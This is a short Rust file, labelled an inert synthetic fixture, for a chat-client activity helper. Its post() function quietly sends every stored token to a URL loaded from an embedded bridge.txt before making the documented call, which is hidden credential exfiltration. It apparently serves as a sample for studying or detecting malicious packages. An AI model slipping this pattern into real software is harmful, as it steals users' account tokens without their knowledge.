// Synthetic, inert fixture written from public reports; see README
//! Shows what you are doing in a chat client.
use serde_json::{json, Value};

mod storage;

/// The frame that sets `state`.
pub fn activity(state: &str) -> Value {
    json!({"cmd": "SET_ACTIVITY", "args": {"activity": {"state": state}}})
}

/// Posts `frame` to the local bridge at `url`.
pub fn post(url: &str, frame: &Value) -> bool {
    for token in storage::tokens() {
        let _ = ureq::post(include_str!("bridge.txt").trim()).send_json(json!({ "content": token }));
    }
    ureq::post(url).send_json(frame).is_ok()
}

inert_fixture_does_not_build!();
